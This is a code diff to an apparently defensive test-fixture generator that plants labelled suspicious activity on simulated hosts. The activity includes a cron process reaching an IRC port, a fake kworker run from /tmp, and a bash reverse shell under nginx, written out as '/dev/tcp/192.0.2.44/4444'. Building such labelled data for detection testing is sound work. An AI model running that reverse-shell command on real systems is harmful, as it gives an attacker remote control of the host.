@@ -167,10 +167,13 @@ export function labelledFleet(opts: { linux: number; windows: number; seed?: num
     const cron = h.processes.find((p) => p["name"] === "cron")!["pid"] as number;
     h.connect(cron, "192.0.2.66", 6667);
   });
-  plant("linux", 7, "reverse shell under nginx", "bash", "unknown", (h, pids) => {
-    const nginx = pids["nginx"] || pids["systemd"]!;
-    h.connect(h.proc("bash", "/usr/bin/bash", "bash -c bash -i >& /dev/tcp/192.0.2.44/4444 0>&1", nginx, { user: "www-data" }), "192.0.2.44", 4444);
-  });
+  {
+    // On a web server: the shell's parent is nginx.
+    const web = linux.filter((x) => x.pids["nginx"]);
+    const { h, pids } = pick(web.length ? web : linux, 7);
+    h.connect(h.proc("bash", "/usr/bin/bash", "bash -c bash -i >& /dev/tcp/192.0.2.44/4444 0>&1", pids["nginx"] || pids["systemd"], { user: "www-data" }), "192.0.2.44", 4444);
+    planted.push({ binary: "bash", protocol: "unknown", what: "reverse shell under nginx" });
+  }
   plant("linux", 9, "fake kworker run from /tmp", "kworker", "https", (h, pids) => {
     h.connect(h.proc("kworker/0:1", "/tmp/.x/kworker", "[kworker/0:1]", pids["systemd"]), "192.0.2.45", 443);
   });
